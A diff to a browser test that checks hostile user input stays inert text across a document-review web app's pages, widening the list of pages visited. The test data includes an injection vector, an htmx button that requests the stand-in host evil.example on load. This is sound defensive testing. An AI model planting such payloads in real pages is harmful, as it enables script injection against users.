@@ -28,7 +28,11 @@ VECTORS = (
     "<button hx-get='//evil.example/' hx-trigger=load>",
 )
 EVERYTHING = "\n".join(VECTORS)
-PAGES = ("", "claims/1/", "disagreements/", "history/", "report/", "notes/", "details/")
+PAGES = (
+    "", "claims/1/", "claims/2/similar/", "disagreements/", "history/", "report/", "notes/", "details/", "marking/",
+    "readings/", "agreement/", "revisions/", "stale/", "changes/",
+)  # fmt: skip
+OF_A_REVIEWER = ("", "claims/1/", "marking/", "changes/")
 
 
 def is_unharmed(page):
@@ -66,13 +70,14 @@ def test_hostile_words_stay_words_on_every_page(desk, new_context, address, proj
     expect_saved(other)
     is_unharmed(other)
     for page in (desk, other):
-        for path in PAGES if page is desk else PAGES[:-1]:
+        for path in PAGES if page is desk else OF_A_REVIEWER:
             page.goto(f"/documents/{document.pk}/{path}")
             is_unharmed(page)
         page.goto("/")
         is_unharmed(page)
-        page.goto(f"/projects/{project.slug}/")
-        is_unharmed(page)
+        for path in ("", "sources/"):
+            page.goto(f"/projects/{project.slug}/{path}")
+            is_unharmed(page)
     _opens_the_downloaded_page(desk, new_context().new_page(), document)
 
 
